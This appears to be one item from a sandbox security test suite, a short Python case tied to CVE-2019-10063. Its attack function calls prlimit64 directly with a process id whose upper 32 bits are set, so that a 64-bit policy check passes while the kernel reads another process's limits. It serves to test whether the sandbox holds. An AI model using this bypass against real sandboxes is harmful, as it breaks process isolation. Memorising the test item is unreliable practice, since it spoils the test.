# id: own_process_limits_padded
# category: process
# source: CVE-2019-10063 (a 64 bit comparison of a 32 bit argument)
# flags: -
# expect: HELD
# level: policy
# sanity: ESCAPED
# opts: -
# setup: base world
# prelude: attack
def attack():  # prlimit64 with an id whose upper half the kernel drops
    old = (ctypes.c_uint64 * 2)()
    sc(302, 261, W["sib"] | 1 << 32, 7, None, ctypes.addressof(old))
    return "read the limits of another process: %d" % old[0]
run(attack)
